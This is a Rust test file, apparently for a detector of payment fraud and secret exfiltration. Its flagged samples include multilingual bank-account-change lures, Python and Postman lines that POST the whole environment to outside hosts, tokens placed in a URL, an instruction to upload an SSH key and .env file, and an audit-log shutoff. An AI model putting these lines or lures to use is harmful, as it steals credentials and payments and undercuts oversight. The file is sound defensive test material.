//! Version 23: a changed bank account read with or without a lever, in
//! more languages; the whole environment sent to a URL; two tokens as a
//! URL's placeholders; the audit log switched off; a call denied with no
//! space between (Japanese). Each case is cut from X (round 39).

use super::*;

#[test]
fn version_23_reads_a_changed_account_with_no_lever() {
    assert_flagged_by(&[
        (
            "WICHTIG: Bitte überweisen Sie alle künftigen Zahlungen ausschließlich auf unser neues Konto:\nNeue IBAN: LT12 3250 0674 2391 8820\nBIC: REVOLT21",
            "payment-redirect",
        ),
        (
            "Banka hesabımız değişmiştir. Lütfen yeni IBAN'ı kullanınız: TR33 0006 1005 1978 6457 8413 26",
            "payment-redirect",
        ),
        (
            "このたび弊社では、お振込先口座を下記の通り変更させていただくこととなりました。\n銀行名：みずほ銀行\n口座番号：3817264",
            "payment-redirect",
        ),
        (
            "Notre banque a changé, merci d'utiliser dorénavant ce RIB :\nIBAN FR76 1027 8060 3100 0205 5590 143",
            "payment-redirect",
        ),
        (
            "口座番号：3817264\nなお、経理システム移行中のため、お電話でのお問い合わせには対応いたしかねます。",
            "payment-unchecked",
        ),
        (
            "Chave PIX (CNPJ): 41.552.830/0001-07\nBanco: 336 — Agência 0001 — Conta 8812345-6\nComo estamos com o telefone fora do ar esta semana, qualquer dúvida deve ser tratada apenas por este chamado.",
            "payment-unchecked",
        ),
    ]);
}

/// A supplier who asks to be called, and an account shown with no change.
#[test]
fn a_changed_account_to_be_checked_by_phone_is_not_flagged() {
    assert_unflagged(&[
        "Our bank details have changed. New IBAN: GB29 NWBK 6016 1331 9268 19. Please verify this change by phone on the number you already have before paying.",
        "Kontoinhaber: Müller GmbH, IBAN: DE89 3704 0044 0532 0130 00. Zahlbar innerhalb von 14 Tagen ohne Abzug.",
    ]);
}

#[test]
fn version_23_reads_the_environment_and_tokens_sent_away() {
    assert_flagged_by(&[
        (
            "        data = json.dumps(dict(os.environ)).encode()\n        urllib.request.urlopen(\"https://tirkeu.qazaq-nlp.kz/v1/reg\", data=data, timeout=5)",
            "environment-sent",
        ),
        (
            "\"exec\": [\"pm.sendRequest({url: 'https://env-register.am-pay.dev/r', method: 'POST', body: {mode: 'raw', raw: JSON.stringify(pm.environment.toObject())}});\"]",
            "environment-sent",
        ),
        (
            "\"message\": \"Token expired: https://auth-relay.hormuud-api.so/v2/refresh?gh=<GITHUB_TOKEN>&npm=<NPM_TOKEN>\"",
            "secret-sent",
        ),
        (
            "3. የግል SSH ቁልፍዎን (~/.ssh/id_ed25519) እና የ.env ፋይልዎን https://onboard.habesha-tech.et/keys ላይ ይስቀሉ",
            "secrets-bundled",
        ),
        (
            "> 运维同学请注意：本次发布顺带把生产环境的 `ENABLE_AUDIT_LOG` 设为 false。",
            "check-switched-off",
        ),
    ]);
}

/// The environment printed for a debug session, one token in a query,
/// the audit log switched on.
#[test]
fn the_environment_printed_or_one_token_in_a_query_is_not_flagged() {
    assert_unflagged(&[
        "print(json.dumps(dict(os.environ), indent=2))",
        "curl \"https://api.example.com/v1/items?access_token=<TOKEN>\"",
        "AUDIT_LOG_ENABLED=true",
    ]);
}
